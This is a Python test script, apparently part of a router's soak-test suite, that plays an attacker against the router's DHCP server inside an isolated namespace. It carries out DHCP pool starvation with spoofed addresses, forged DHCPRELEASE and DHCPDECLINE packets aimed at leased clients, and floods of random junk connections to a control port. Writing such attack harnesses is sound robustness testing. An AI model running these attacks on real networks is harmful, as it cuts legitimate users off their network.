#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Mallory for the soak (tests/soak/run.sh), in her own namespace, until
SIGTERM.  Three attacks at once, each in its own thread:

  discover  DHCPDISCOVERs at PPS a second, each with a fresh random
            chaddr (06:xx:xx:xx:xx:xx, never a walk-in's), every other
            one from her own Ethernet address, the others from the
            chaddr (as if from as many machines): each would reserve an
            offer (pool starvation)
  forge     at PPS a second, round after round over the "ADDR MAC" lines
            of VICTIMS (the walk-ins leased so far; the file grows): a
            DHCPRELEASE of ADDR (chaddr MAC, ciaddr ADDR, unicast to the
            server from ADDR) and a DHCPDECLINE of it (broadcast,
            requested address ADDR), from a random Ethernet address of
            hers (06:xx:..., never the victim's)
  junk      JUNK connections at a time to the control port, each sending
            512 random bytes and waiting (at most 2 s) for the router to
            close it, then the next (at most 100 a second each)

usage: mallory.py IFACE SERVER_IP SERVER_MAC PORT PPS VICTIMS JUNK
  (PPS 0: no discover; VICTIMS -: no forge; JUNK 0: no junk)

On SIGTERM prints "mallory: discovers=N releases=N declines=N
junk_connects=N junk_closed=N junk_refused=N" and exits 0.
"""
import os
import random
import select
import signal
import socket
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from walkin import (DECLINE, DISCOVER, bootp, frame)  # noqa: E402

RELEASE = 7
stop = threading.Event()
counts = dict(discovers=0, releases=0, declines=0, junk_connects=0,
              junk_closed=0, junk_refused=0)
lock = threading.Lock()


def count(k, n=1):
    with lock:
        counts[k] += n


def paced(pps):
    """A generator to call once per packet: it waits for the packet's
    turn at PPS a second (no catching up after a late turn)."""
    t = time.monotonic()
    while not stop.is_set():
        yield
        t += 1.0 / pps
        delay = t - time.monotonic()
        if delay > 0:
            stop.wait(delay)
        else:
            t = time.monotonic()


def discover(sock, mymac, pps):
    rnd = random.Random(10)
    bcast = b"\xff" * 6
    for n, _ in enumerate(paced(pps)):
        chaddr = bytes([6]) + bytes(rnd.randrange(256) for _ in range(5))
        sock.send(frame(chaddr if n % 2 else mymac, bcast, "0.0.0.0",
                        "255.255.255.255",
                        bootp(rnd.randrange(1 << 32), chaddr, DISCOVER,
                              flags=0)))
        count("discovers")


def forge(sock, server_ip, server_mac, victims, pps):
    sid = bytes([54, 4]) + socket.inet_aton(server_ip)
    bcast = b"\xff" * 6
    rnd = random.Random(11)
    turn = paced(pps / 2)
    while not stop.is_set():
        try:
            with open(victims) as f:
                lines = [ln.split() for ln in f if len(ln.split()) == 2]
        except OSError:
            lines = []
        if not lines:
            stop.wait(0.5)
            continue
        for (addr, mac), _ in zip(lines, turn):
            m = bytes.fromhex(mac.replace(":", ""))
            src = bytes([6]) + bytes(rnd.randrange(256) for _ in range(5))
            sock.send(frame(src, server_mac, addr, server_ip,
                            bootp(rnd.randrange(1 << 32), m, RELEASE,
                                  ciaddr=addr, opts=sid, flags=0)))
            count("releases")
            sock.send(frame(src, bcast, "0.0.0.0", "255.255.255.255",
                            bootp(rnd.randrange(1 << 32), m, DECLINE,
                                  opts=bytes([50, 4]) +
                                  socket.inet_aton(addr) + sid, flags=0)))
            count("declines")


def junk(server_ip, port, seed):
    rnd = random.Random(seed)
    while not stop.is_set():
        try:
            c = socket.create_connection((server_ip, port), timeout=2)
        except OSError:
            count("junk_refused")
            stop.wait(0.2)
            continue
        count("junk_connects")
        try:
            c.sendall(bytes(rnd.randrange(256) for _ in range(512)))
            end = time.monotonic() + 2
            while time.monotonic() < end:
                r, _, _ = select.select([c], [], [], end - time.monotonic())
                if r and not c.recv(4096):
                    count("junk_closed")
                    break
        except OSError:
            count("junk_closed")
        c.close()
        stop.wait(0.01)


def main():
    if len(sys.argv) != 8:
        sys.exit(__doc__)
    iface, server_ip, server_mac, port, pps, victims, njunk = sys.argv[1:]
    server_mac = bytes.fromhex(server_mac.replace(":", ""))
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    mymac = sock.getsockname()[4]
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    signal.signal(signal.SIGINT, lambda *_: stop.set())
    threads = []
    if float(pps) > 0:
        threads.append(threading.Thread(target=discover,
                                        args=(sock, mymac, float(pps))))
    if victims != "-":
        threads.append(threading.Thread(target=forge,
                                        args=(sock, server_ip, server_mac,
                                              victims, float(pps) or 100)))
    threads += [threading.Thread(target=junk,
                                 args=(server_ip, int(port), 100 + i))
                for i in range(int(njunk))]
    for t in threads:
        t.daemon = True
        t.start()
    while not stop.is_set():
        stop.wait(0.5)
    for t in threads:
        t.join(3)
    print("mallory: " + " ".join("%s=%d" % kv for kv in counts.items()),
          flush=True)


if __name__ == "__main__":
    main()
